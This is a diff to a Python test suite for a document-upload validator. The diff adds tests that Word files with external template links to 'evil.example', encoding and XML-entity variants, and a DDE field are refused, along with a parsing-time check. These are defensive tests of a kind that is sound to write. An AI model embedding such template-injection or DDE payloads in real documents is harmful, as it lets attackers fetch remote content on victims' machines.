@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import random
 import struct
+import time
 
 import pytest
 from hypothesis import given
@@ -12,6 +14,9 @@ from curbside.domain import files
 from curbside.domain.errors import Refused
 from curbside.domain.files import BYTES_MAX, CSV, DOCX, GIF, JPEG, LOG, PDF, PNG, TEXT, WEBP, XLSX, Kind
 from tests import samples
+
+# So that an archive does not look like a bomb.
+SALT = random.Random(1).randbytes(5_000)
 
 
 @pytest.mark.parametrize(
@@ -83,6 +88,36 @@ def test_what_may_not_be_attached_is_refused(content: bytes) -> None:
 def test_links_to_click_are_no_harm_in_a_document() -> None:
     link = '<Relationship Type="x/hyperlink" Target="https://a.example" TargetMode="External"/>'
     assert files.recognise(samples.document(**{"word___rels__document.xml.rels": link}), "") == DOCX
+
+
+TEMPLATE = '<Relationship Type="x/attachedTemplate" TargetMode="External" Target="https://evil.example/{}"/>'
+
+
+@pytest.mark.parametrize(
+    ("part", "content"),
+    [
+        ("document.xml.rels", TEMPLATE.format("hyperlink").encode()),
+        (
+            "document.xml.rels",
+            b'<Relationship Type="x/attachedTemplate" Target="//e.example/?a>b" TargetMode="External"/>',
+        ),
+        ("document.xml.rels", b"\xff\xfe" + TEMPLATE.format("").encode("utf-16-le")),
+        ("document.xml.RELS", TEMPLATE.format("").encode()),
+        ("document.xml.rels", b"<!DOCTYPE a [<!ENTITY b 'External'>]><a TargetMode='&b;'/>"),
+        ("document.xml.rels", b"<a"),
+        ("document.xml", b"\xff\xfe" + "<w:instrText> DDE c</w:instrText>".encode("utf-16-le")),
+    ],
+)
+def test_a_document_that_reaches_out_is_refused_however_it_is_written(part: str, content: bytes) -> None:
+    with pytest.raises(Refused):
+        files.recognise(samples.document(**{f"word___rels__{part}": content}), "")
+
+
+def test_links_are_read_in_time_that_grows_with_their_size() -> None:
+    before = time.process_time()
+    with pytest.raises(Refused):
+        files.recognise(samples.document(**{"word___rels__document.xml.rels": b"<\x7f" * 100_000 + SALT}), "")
+    assert time.process_time() - before < 1
 
 
 def test_an_archive_that_lies_about_its_size_is_refused() -> None:
